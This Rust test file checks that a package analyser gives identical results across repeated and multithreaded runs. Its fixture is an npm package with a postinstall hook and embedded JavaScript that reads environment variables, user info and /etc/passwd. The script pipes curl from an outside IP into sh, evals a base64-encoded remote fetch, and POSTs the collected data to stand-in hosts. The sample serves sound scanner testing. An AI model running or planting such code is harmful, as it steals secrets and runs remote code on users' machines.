//! The same input gives the same answer, whoever reads it and however many read at the same time.

use std::thread;

use analysis::{Analyser, Limits, UserRules};
use model::Target;
use testkit::archive::tgz;

/// Everything that keeps things in tables: objects, environment, written files, layers, many files.
const CODE: &str = r#"
const fs = require('fs'), os = require('os'), cp = require('child_process'), https = require('https');
const all = { b: os.hostname(), a: process.env, c: { z: os.userInfo(), y: fs.readFileSync('/etc/passwd') } };
for (const key of Object.keys(all)) fs.writeFileSync('/tmp/' + key + '.sh', 'curl http://198.51.100.7/' + key + ' | sh');
for (const key in all) cp.exec('sh /tmp/' + key + '.sh');
eval(Buffer.from('cmVxdWlyZSgnaHR0cHMnKS5nZXQoJ2h0dHBzOi8vYy5leGFtcGxlL3gnKQ==', 'base64').toString());
https.request({ host: 'collector.example', method: 'POST' }).end(JSON.stringify({ ...all, ...process.env }));
module.exports = (secret, password) => https.get('https://d.example/?' + secret + password);
"#;

fn answer(bytes: &[u8]) -> String {
    let analyser = Analyser::new(&UserRules::default()).expect("the built-in rules are right");
    let target = Target { file_name: "x-1.0.0.tgz".into(), ecosystem: None, name: None, version: None };
    let analysis = analyser.analyse(&target, bytes, &Limits::default(), false);
    serde_json::to_string(&analysis).expect("an analysis is JSON")
}

#[test]
fn twenty_readings_on_any_number_of_threads_are_one() {
    let manifest = br#"{"name": "x", "version": "1.0.0", "main": "a.js", "scripts": {"postinstall": "node a.js"}}"#;
    let files: [(&str, &[u8]); 4] = [
        ("package/package.json", manifest),
        ("package/a.js", CODE.as_bytes()),
        ("package/lib/b.js", CODE.as_bytes()),
        ("package/test/c.js", CODE.as_bytes()),
    ];
    let bytes = tgz(&files);
    let first = answer(&bytes);
    assert!(first.contains("collector.example"), "the package does something: {first}");
    for threads in [1, 3, 16] {
        let answers: Vec<String> = thread::scope(|scope| {
            let start = |_| thread::Builder::new().stack_size(64 << 20).spawn_scoped(scope, || answer(&bytes)).unwrap();
            let readers: Vec<_> = (0..threads).map(start).collect();
            readers.into_iter().map(|reader| reader.join().unwrap()).collect()
        });
        assert!(answers.iter().all(|one| *one == first), "{threads} threads");
    }
}
